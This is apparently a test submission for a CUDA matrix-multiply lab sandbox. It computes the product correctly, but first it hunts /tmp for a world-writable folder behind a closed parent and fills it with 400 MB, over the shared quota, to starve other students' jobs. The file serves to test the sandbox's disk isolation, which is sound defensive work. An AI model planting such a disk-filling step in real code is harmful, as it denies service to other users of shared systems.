// attack: finds a folder anyone may write behind one others may only
// enter (a course's /tmp/course/scratch at 1777 behind /tmp/course at
// 0755), which the uid mode's measuring walk passed by, and writes 400 MB
// there, past the 256 MB the shared folders may hold, keeping it a moment
// to squeeze its classmates; then does the lab. In the namespaced modes its
// /tmp is a fresh one of its own, with no such folder
// expect: full
// expect-uid: zero
#include "lab.h"
#include <dirent.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

__global__ void MatrixMulKernel(const float *M, const float *N, float *P, int Width)
{
    int Row = blockIdx.y * blockDim.y + threadIdx.y;
    int Col = blockIdx.x * blockDim.x + threadIdx.x;
    if (Row < Width && Col < Width) {
        float Pvalue = 0;
        for (int k = 0; k < Width; ++k)
            Pvalue += M[Row * Width + k] * N[k * Width + Col];
        P[Row * Width + Col] = Pvalue;
    }
}

static void honest(const float *M, const float *N, float *P, int width)
{
    size_t bytes = (size_t)width * width * sizeof(float);
    float *d_M, *d_N, *d_P;
    CUDA_CHECK(cudaMalloc((void **)&d_M, bytes));
    CUDA_CHECK(cudaMalloc((void **)&d_N, bytes));
    CUDA_CHECK(cudaMalloc((void **)&d_P, bytes));
    CUDA_CHECK(cudaMemcpy(d_M, M, bytes, cudaMemcpyHostToDevice));
    CUDA_CHECK(cudaMemcpy(d_N, N, bytes, cudaMemcpyHostToDevice));
    dim3 block(16, 16), grid((width + 15) / 16, (width + 15) / 16);
    MatrixMulKernel<<<grid, block>>>(d_M, d_N, d_P, width);
    CUDA_CHECK(cudaGetLastError());
    CUDA_CHECK(cudaMemcpy(P, d_P, bytes, cudaMemcpyDeviceToHost));
    CUDA_CHECK(cudaFree(d_M));
    CUDA_CHECK(cudaFree(d_N));
    CUDA_CHECK(cudaFree(d_P));
}

/* A folder at 1777 below dir (to depth 2) whose parent others may not
 * write, into found; 1 if there is one. */
static int find_scratch(const char *dir, int parent_open, int depth, char *found, size_t cap)
{
    DIR *d = opendir(dir);
    if (!d)
        return 0;
    struct dirent *e;
    int got = 0;
    while (!got && (e = readdir(d)) != NULL) {
        if (e->d_name[0] == '.')
            continue;
        char path[4096];
        struct stat st;
        snprintf(path, sizeof path, "%s/%s", dir, e->d_name);
        if (lstat(path, &st) != 0 || !S_ISDIR(st.st_mode))
            continue;
        int open_to_all = (st.st_mode & 0002) != 0;
        if (open_to_all && !parent_open) {
            snprintf(found, cap, "%s", path);
            got = 1;
        } else if (depth < 2) {
            got = find_scratch(path, open_to_all, depth + 1, found, cap);
        }
    }
    closedir(d);
    return got;
}

void basic_matmul(const float *M, const float *N, float *P, int width)
{
    static char block[1 << 20];
    char dir[4096], path[4200];
    if (find_scratch("/tmp", 1, 0, dir, sizeof dir)) {
        snprintf(path, sizeof path, "%s/@MARK@-fill", dir);
        FILE *f = fopen(path, "w");
        int mb = 0;
        while (f && mb < 400 && fwrite(block, 1, sizeof block, f) == sizeof block)
            mb++;
        if (f)
            fclose(f);
        printf("fill_behind_scratch: wrote %d MB into %s\n", mb, dir);
        fflush(stdout);
        sleep(1); /* held while the classmates run */
    }
    honest(M, N, P, width);
}
